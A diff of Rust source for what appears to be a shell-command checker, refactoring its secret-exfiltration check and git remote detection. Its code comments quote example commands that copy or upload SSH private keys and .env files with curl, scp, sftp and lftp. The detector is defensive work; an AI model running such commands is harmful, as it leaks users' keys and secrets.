@@ -1967,40 +1967,32 @@ impl Check for SecretExfiltration {
                 continue;
             }
             // The sender is given the secret itself (scp needs a remote side to be a send).
-            if let Some(s) = secret_args(u) {
-                let remote = !matches!(p, "scp" | "rsync" | "sftp")
-                    || u.args()
-                        .map(text)
-                        .any(|t| t.contains(':') && !t.starts_with('/'));
-                if remote {
-                    out.push(deny(
-                        Some(i),
-                        u.span,
-                        format!("sends the secret `{s}` over the network with `{p}`"),
-                    ));
-                    continue;
-                }
+            if let Some(s) = secret_args(u)
+                && sends_to_remote(u, p)
+            {
+                out.push(deny(
+                    Some(i),
+                    u.span,
+                    format!("sends the secret `{s}` over the network with `{p}`"),
+                ));
+                continue;
             }
             // `cp ~/.ssh/id_rsa /tmp/x && curl -T /tmp/x …`, `tar -C ~ -czf /tmp/h.tgz . && scp
             // /tmp/h.tgz host:`: a file the line wrote with a secret in it.
-            if let Some(c) = copy_read(u, &copies) {
-                let remote = !matches!(p, "scp" | "rsync" | "sftp")
-                    || u.args()
-                        .map(text)
-                        .any(|t| t.contains(':') && !t.starts_with('/'));
-                if remote {
-                    out.push(deny(
-                        Some(i),
-                        u.span,
-                        format!(
-                            "sends a copy of {} (written to `{}` by `{}`) over the network with `{p}`",
-                            describe(&c.what),
-                            c.path,
-                            c.by
-                        ),
-                    ));
-                    continue;
-                }
+            if let Some(c) = copy_read(u, &copies)
+                && sends_to_remote(u, p)
+            {
+                out.push(deny(
+                    Some(i),
+                    u.span,
+                    format!(
+                        "sends a copy of {} (written to `{}` by `{}`) over the network with `{p}`",
+                        describe(&c.what),
+                        c.path,
+                        c.by
+                    ),
+                ));
+                continue;
             }
             // `sftp host <<< 'put ~/.ssh/id_rsa'`, `lftp -e 'put .env; quit' host`: the client's
             // own commands upload a secret.
@@ -2136,29 +2128,22 @@ fn transfer_upload(u: &Unit, p: &str) -> Option<String> {
     None
 }
 
+/// Whether sender `p` sends the files it is given: scp, rsync and sftp only when a word names
+/// a remote side (`host:`), other senders always.
+fn sends_to_remote(u: &Unit, p: &str) -> bool {
+    !matches!(p, "scp" | "rsync" | "sftp")
+        || u.args()
+            .map(text)
+            .any(|t| t.contains(':') && !t.starts_with('/'))
+}
+
 /// git run with a subcommand that talks to a remote (`fetch`, `push`, `clone`, `ls-remote`…),
-/// read after git's own options (`-C DIR`, `-c KEY=VALUE` and the others that take a value).
+/// read with git's table ([`git_config::git_words`]).
 fn git_talks_to_remote(u: &Unit) -> bool {
     if prog(u) != Some("git") {
         return false;
     }
-    let mut value = false;
-    let sub = u.args().map(text).find(|w| {
-        if std::mem::take(&mut value) {
-            return false;
-        }
-        value = matches!(
-            *w,
-            "-C" | "-c"
-                | "--git-dir"
-                | "--work-tree"
-                | "--namespace"
-                | "--config-env"
-                | "--exec-path"
-                | "--super-prefix"
-        );
-        !w.starts_with('-')
-    });
+    let sub = git_config::git_words(u).subcommand;
     matches!(
         sub,
         Some(
